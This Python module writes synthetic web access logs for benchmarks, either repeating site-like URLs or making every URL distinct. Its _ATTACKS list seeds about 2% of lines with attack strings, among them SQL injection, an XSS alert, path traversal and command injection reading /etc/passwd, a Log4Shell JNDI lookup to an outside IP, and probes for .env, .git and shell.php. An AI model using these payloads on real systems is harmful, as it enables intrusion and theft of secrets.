"""Access logs written for benchmarks: one that repeats itself as real ones do, one in which every URL differs."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

_MONTHS: Final = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_SECTIONS: Final = ("actualites", "programme", "agenda", "candidats", "photos", "videos", "dons", "contact", "region")
_WORDS: Final = ("réunion", "élection", "débat", "équipe", "meeting", "soutien", "выборы", "кандидат", "новости")
_PLAIN: Final = ("reunion", "election", "debat", "equipe", "meeting", "soutien", "affiche", "discours", "presse")
# What is written into a target by those who attack: the places are filled with numbers.
_ATTACKS: Final = (
    "/article.php?id={0}%27%20UNION%20SELECT%20{1},{0},null--%20-",
    "/article.php?id={0}+and+sleep({1})",
    "/search?q=%3Cscript%3Ealert({0})%3C/script%3E",
    "/download?file=../../../../../../etc/passwd&n={0}",
    "/cgi-bin/test.cgi?x=;cat%20/etc/passwd;{0}",
    "/?x=${{jndi:ldap://198.51.100.7:{1}/a{0}}}",
    "/wp-login.php?n={0}",
    "/.env?{0}",
    "/.git/config?{0}",
    "/backup-{0}.zip",
    "/uploads/{0}/shell.php",
    "/phpmyadmin{0}/index.php",
)
_ATTACK_SHARE: Final = 0.02
_ENCODED_SHARE: Final = 0.2
_TAILS: Final = 60_000
_CLIENTS: Final = 30_000
_AT_ONCE: Final = 3_000
_VISIT: Final = 25  # requests of one client before it leaves, on average
_LINES_BATCH: Final = 20_000


def write_log(path: Path, mb: float, *, distinct: bool, seed: int = 7) -> int:
    """Write a combined log of at least `mb` megabytes to `path`; return how many lines it has.

    Two of a hundred requests are attacks or probes. Where URLs are `distinct` every one of them differs, and a fifth
    have percent-encoded words; else requests repeat those of a site with some thousand pages.
    """
    draw = random.Random(seed)
    agents = _agents(draw)
    clients = [
        (".".join(str(draw.randrange(1, 255)) for _ in range(4)), f'"{draw.choice(agents)}"\n') for _ in range(_CLIENTS)
    ]
    present = clients[:_AT_ONCE]
    tail = _distinct_tails(draw) if distinct else _repeated_tails(draw)
    lines = written = 0
    with path.open("w", encoding="ascii") as file:
        while written < mb * 1e6:
            batch = []
            for number in range(lines, lines + _LINES_BATCH):
                day, second = divmod(number // 4, 86_400)
                clock = f"{second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}"
                date = f"{day % 28 + 1:02d}/{_MONTHS[day // 28 % 12]}/2017"
                place = int(draw.random() * _AT_ONCE)
                address, agent = present[place]
                if draw.random() * _VISIT < 1:
                    present[place] = draw.choice(clients)
                batch.append(f'{address} - - [{date}:{clock} +0100] "{tail(number)}{agent}')
            lines += _LINES_BATCH
            written += file.write("".join(batch))
    return lines


def _agents(draw: random.Random) -> list[str]:
    systems = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
    return [
        f"Mozilla/5.0 ({draw.choice(systems)}) AppleWebKit/537.36 (KHTML, like Gecko) "
        f"Chrome/{draw.randrange(60, 110)}.0.{draw.randrange(9999)}.{draw.randrange(200)} Safari/537.36"
        for _ in range(1_500)
    ]


def _rest(draw: random.Random, target: str) -> str:
    referer = f"https://www.example.fr/{draw.choice(_SECTIONS)}/{draw.randrange(3_000)}" if draw.random() < 0.6 else "-"
    status = draw.choice((200, 200, 200, 200, 304, 404))
    return f'GET {target} HTTP/1.1" {status} {draw.randrange(200, 99_999)} "{referer}" '


def _word(draw: random.Random) -> str:
    return quote(draw.choice(_WORDS)) if draw.random() < _ENCODED_SHARE else draw.choice(_PLAIN)


def _attack(draw: random.Random) -> str:
    return draw.choice(_ATTACKS).format(draw.randrange(10**6), draw.randrange(1_000, 9_999))


def _repeated_tails(draw: random.Random) -> Callable[[int], str]:
    pages = [
        f"/{draw.choice(_SECTIONS)}/{_word(draw)}"
        f"-{n}{draw.choice(('', '.html', '?page=' + str(n % 20), '?utm_source=x&utm_medium=social'))}"
        for n in range(8_000)
    ]
    tails = [_rest(draw, draw.choice(pages)) for _ in range(_TAILS)]

    def tail(_: int) -> str:
        if draw.random() < _ATTACK_SHARE:
            return _rest(draw, _attack(draw))
        # Some pages are read far more often than others.
        return tails[int(_TAILS * draw.random() ** 2)]

    return tail


def _distinct_tails(draw: random.Random) -> Callable[[int], str]:
    rests = [_rest(draw, "\0") for _ in range(_TAILS)]

    def tail(number: int) -> str:
        if draw.random() < _ATTACK_SHARE:
            target = f"{_attack(draw)}&n={number}"
        else:
            word = _word(draw)
            target = f"/{draw.choice(_SECTIONS)}/{word}-{number}/{draw.getrandbits(32):x}?page={number % 20}&q={word}"
        return rests[int(_TAILS * draw.random())].replace("\0", target)

    return tail
